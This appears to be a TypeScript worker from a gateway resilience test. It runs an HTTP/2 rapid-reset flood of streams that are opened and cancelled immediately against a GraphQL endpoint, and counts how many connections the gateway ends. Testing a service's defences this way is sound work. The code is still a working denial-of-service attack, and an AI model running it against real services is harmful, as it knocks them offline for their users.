import { once } from 'node:events'
import { type ClientHttp2Session, connect, constants } from 'node:http2'
import { parentPort, workerData } from 'node:worker_threads'

export interface ResetAttack {
  readonly url: string
  /** Certificate of the gateway in PEM format. */
  readonly ca: string
  readonly body: string
  readonly connections: number
  readonly streams: number
  readonly seconds: number
}

/** Number of connections opened by the thread, and how many of them the gateway ended. */
export interface ResetCounts {
  readonly opened: number
  readonly ended: number
}

const { url, ca, body, connections, streams, seconds } = workerData as ResetAttack
const POST = { ':method': 'POST', ':path': '/graphql', 'content-type': 'application/json' }

/** Number of concurrent streams per client. */
const AT_ONCE = 100

/** Opens streams and resets each immediately after sending. Returns their number, or 0 if the gateway ends the connection. */
const resetStreams = async (session: ClientHttp2Session, count: number): Promise<number> => {
  session.on('error', () => undefined)
  const ended = new Promise((resolve) => session.once('close', resolve).once('goaway', resolve))
  await Promise.race([once(session, 'connect'), ended])
  let done = 0
  let isAway = false
  void ended.then(() => {
    isAway = true
  })
  while (done < count && !isAway && !session.destroyed) {
    const closed = Array.from({ length: AT_ONCE }, () => {
      const stream = session.request(POST)
      stream.on('error', () => undefined)
      stream.end(body, () => stream.close(constants.NGHTTP2_CANCEL))
      return new Promise((resolve) => stream.once('close', resolve))
    })
    // Streams close on this side first. Only the response to a ping shows that the gateway has read the
    // resets.
    const response = new Promise((resolve) => session.ping(resolve))
    await Promise.race([Promise.all([...closed, response]), ended])
    done += AT_ONCE
  }
  return isAway ? 0 : done
}

let opened = 0
let ended = 0
const end = performance.now() + seconds * 1000
const attacker = async (): Promise<void> => {
  while (performance.now() < end) {
    const session = connect(url, { ca })
    opened += 1
    if ((await resetStreams(session, streams)) < streams) ended += 1
    session.destroy()
  }
}
for (let index = 0; index < connections; index += 1) void attacker()
// Reports without waiting for the last connections, because a quiet period at the end of the attack would
// lower percentiles.
setTimeout(() => parentPort?.postMessage({ opened, ended } satisfies ResetCounts), seconds * 1000)
